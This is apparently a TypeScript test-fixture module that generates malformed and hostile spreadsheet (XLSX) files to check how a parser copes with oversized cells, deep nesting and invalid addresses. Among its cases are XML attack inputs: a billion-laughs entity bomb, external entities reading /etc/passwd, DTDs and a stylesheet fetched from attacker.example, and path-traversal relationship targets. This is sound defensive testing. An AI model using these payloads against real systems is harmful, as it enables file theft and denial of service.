import { type HostileFile, type Sample, withXml } from './hostile-file.ts'

const strings = 'xl/sharedStrings.xml'
const workbook = 'xl/workbook.xml'
const relations = 'xl/_rels/workbook.xml.rels'

/** Cells, rows and texts that no sheet has, or too many of them. */
export function sheetTricks(sample: Sample): HostileFile[] {
  const { machine } = sample
  const inMachine = (name: string, xml: string | (() => string), isHarmless = false) => ({
    name,
    make: () =>
      withXml(sample, machine, (before) =>
        before.replace('</sheetData>', () => `${typeof xml === 'string' ? xml : xml()}</sheetData>`),
      ),
    isHarmless,
  })
  const cell = (address: string, inside = '<v>1</v>', more = '') =>
    `<row r="999"><c r="${address}"${more}>${inside}</c></row>`
  const many = (count: number, each: (index: number) => string) => () =>
    Array.from({ length: count }, (_, index) => each(index)).join('')
  const addresses = [
    'A0',
    'A-1',
    'ZZZZ1',
    '1A',
    '',
    'a1',
    'A99999999',
    'A1:XFD1048576',
    'A1 ',
    '$A$1',
    'R1C1',
    'AMK5',
    'XFD999',
  ]
  const rows = ['0', '-1', '1048577', '1e9', 'NaN', 'Infinity', '1.5', 'x', '99999999999999999999']
  return [
    inMachine(
      'a cell in the last corner of a sheet',
      '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
    ),
    inMachine(
      'a hundred rows that reach to the last column',
      many(100, (index) => `<row r="${2000 + index}"><c r="XFD${2000 + index}"><v>1</v></c></row>`),
    ),
    inMachine(
      'ten thousand rows of a thousand columns',
      many(10_000, (index) => `<row r="${2000 + index}"><c r="ALL${2000 + index}"><v>1</v></c></row>`),
    ),
    ...addresses.map((address) => inMachine(`a cell at ${JSON.stringify(address)}`, cell(address))),
    ...rows.map((row) => inMachine(`a row numbered ${row}`, `<row r="${row}"><c><v>1</v></c></row>`)),
    ...['NaN', 'Infinity', '1e999', '-1e999', 'x', '0x10', '1,5'].map((value) =>
      inMachine(`the number ${value}`, cell('A999', `<v>${value}</v>`), value === '0x10'),
    ),
    ...['b', 'e', 'd', 'z'].map((type) =>
      inMachine(`a value of the type ${type}`, cell('A999', '<v>1</v>', ` t="${type}"`)),
    ),
    ...['-1', '99999999', '1.5', 'NaN', '999999'].map((index) =>
      inMachine(`the shared text ${index}`, cell('A999', `<v>${index}</v>`, ' t="s"')),
    ),
    inMachine('a cell outside of a row', '<c r="A999"><v>1</v></c>'),
    inMachine('a row in a row', '<row r="998"><row r="999"><c><v>1</v></c></row></row>'),
    inMachine(
      'the same cell a hundred times',
      many(100, () => cell('A999')),
    ),
    inMachine(
      'two million empty rows',
      many(2_000_000, () => '<row r="5"/>'),
    ),
    inMachine(
      '1,200,000 cells',
      many(1200, (row) => `<row r="${2000 + row}">${'<c><v>1</v></c>'.repeat(1000)}</row>`),
    ),
    inMachine(
      'two million empty cells',
      many(2000, (row) => `<row r="${2000 + row}">${'<c s="1"/>'.repeat(1000)}</row>`),
    ),
    inMachine('a text of 50 MB in a cell', () =>
      cell('A999', `<is><t>${'鍵'.repeat(17_000_000)}</t></is>`, ' t="inlineStr"'),
    ),
    inMachine('an attribute of 50 MB', () => cell('A999', '<v>1</v>', ` x="${'a'.repeat(50_000_000)}"`)),
    inMachine('a comment of 50 MB', () => `<!--${'a'.repeat(50_000_000)}-->`),
    inMachine(
      'a tag of a hundred thousand attributes',
      () => `<row ${Array.from({ length: 100_000 }, (_, index) => `a${index}=""`).join(' ')}/>`,
      true,
    ),
    inMachine('a million nested elements', () => '<a>'.repeat(1_000_000)),
    inMachine('a hundred nested elements', () => `${'<a>'.repeat(100)}${'</a>'.repeat(100)}`),
    inMachine(
      'a million numbered rows',
      many(1_000_000, (index) => `<row r="${index + 40}" ht="${index % 977}"/>`),
      true,
    ),
    {
      ...inMachine(
        '900,000 cells of numbers',
        many(
          900,
          (row) =>
            `<row>${Array.from({ length: 1000 }, (_, index) => `<c><v>${row * index * 31}</v></c>`).join('')}</row>`,
        ),
      ),
    },
    {
      name: '900,000 different shared texts',
      make: () =>
        withXml(sample, strings, (xml) =>
          xml.replace(
            '</sst>',
            () => `${many(900_000, (index) => `<si><t>${index * 7919}</t></si>`)()}</sst>`,
          ),
        ),
      isHarmless: true,
    },
    {
      name: 'a merged area over the whole sheet',
      make: () =>
        withXml(sample, machine, (xml) =>
          xml.replace(
            '</sheetData>',
            '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
          ),
        ),
      isHarmless: true,
    },
    {
      name: 'a thousand million columns',
      make: () =>
        withXml(sample, machine, (xml) =>
          xml.replace('<sheetData>', '<cols><col min="1" max="999999999" width="9"/></cols><sheetData>'),
        ),
      isHarmless: true,
    },
    {
      name: 'rules over every cell',
      make: () =>
        withXml(sample, machine, (xml) =>
          xml.replace(
            '</sheetData>',
            '</sheetData><dataValidations><dataValidation sqref="A1:XFD1048576" type="list"><formula1>1</formula1></dataValidation></dataValidations>',
          ),
        ),
      isHarmless: true,
    },
    ...[1_000_001, 3_000_000].map((count) => ({
      name: `${count} shared texts`,
      make: () =>
        withXml(sample, strings, (xml) =>
          xml.replace('</sst>', () => `${'<si><t>a</t></si>'.repeat(count)}</sst>`),
        ),
    })),
    {
      name: 'a million readings of one text',
      make: () =>
        withXml(sample, strings, (xml) =>
          xml.replace('</sst>', () => `<si>${'<rPh><t>a</t></rPh>'.repeat(500_000)}</si></sst>`),
        ),
      isHarmless: true,
    },
    {
      name: 'no shared texts',
      make: () => withXml(sample, strings, () => '<sst xmlns="x"/>'),
    },
    ...structureTricks(sample),
  ]
}

function structureTricks(sample: Sample): HostileFile[] {
  const machineTarget = sample.machine.replace('xl/', '')
  const retarget = (target: string, isHarmless = false) => ({
    name: `records at ${target}`,
    make: () => withXml(sample, relations, (xml) => xml.replace(machineTarget, target)),
    isHarmless,
  })
  return [
    {
      name: '100,000 sheets',
      make: () =>
        withXml(sample, workbook, (xml) =>
          xml.replace(
            '</sheets>',
            () =>
              `${Array.from({ length: 100_000 }, (_, index) => `<sheet name="s${index}" sheetId="${index + 100}" r:id="rId1"/>`).join('')}</sheets>`,
          ),
        ),
    },
    {
      name: 'a million tags that never end',
      make: () =>
        withXml(sample, workbook, (xml) =>
          xml.replace('<sheets>', () => `<sheets>${'<sheet '.repeat(500_000)}`),
        ),
    },
    {
      name: 'two sheets of records',
      make: () =>
        withXml(sample, workbook, (xml) =>
          xml.replace(/<sheet [^>]*name="_kagimori"[^>]*>/, (tag) => `${tag}${tag}`),
        ),
      isHarmless: true,
    },
    {
      name: 'a sheet of records that is missing',
      make: () => withXml(sample, workbook, (xml) => xml.replace('"_kagimori"', '"x"')),
    },
    retarget('http://attacker.example/sheet.xml'),
    retarget('file:///etc/passwd'),
    retarget('../../../../etc/passwd'),
    retarget('/etc/passwd'),
    retarget('workbook.xml'),
    retarget('sharedStrings.xml'),
    retarget('media/image1.png'),
    retarget('../docProps/app.xml'),
  ]
}

/** XML that no office writes. */
export function xmlTricks(sample: Sample): HostileFile[] {
  const laughs = Array.from(
    { length: 10 },
    (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
  ).join('')
  const types: readonly (readonly [string, string])[] = [
    ['a billion laughs', `<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]>`],
    ['an external entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'],
    ['an external entity from elsewhere', '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">'],
    ['a parameter entity', '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd">%p;]>'],
    ['an empty document type', '<!DOCTYPE x>'],
  ]
  const whole = (name: string, what: string, change: (xml: string) => string, isHarmless = false) => ({
    name: `${what} in ${name}`,
    make: () => withXml(sample, name, change),
    isHarmless,
  })
  return [workbook, relations, strings, sample.machine].flatMap((name) => [
    ...types.map(([what, type]) => whole(name, what, (xml) => xml.replace('?>', () => `?>${type}`))),
    whole(
      name,
      'an entity that is not declared',
      (xml) => xml.replace(/(<\w+[^>]*>)/, '$1&unknown;'),
      name === workbook || name === relations,
    ),
    whole(name, 'a character that is none', (xml) => xml.replace(/(<\w+[^>]*>)/, '$1\u0000')),
    whole(
      name,
      'a stylesheet to be run',
      (xml) => xml.replace('?>', '?><?xml-stylesheet href="http://attacker.example/x.xsl"?>'),
      true,
    ),
    whole(name, 'an end that is missing', (xml) => xml.slice(0, -9), name === workbook || name === relations),
    whole(name, 'a second root', (xml) => `${xml}<a/>`, name === workbook || name === relations),
    whole(name, 'nothing', () => ''),
    whole(name, 'UTF-16', (xml) => Buffer.from(`\ufeff${xml}`, 'utf16le').toString('latin1')),
  ])
}
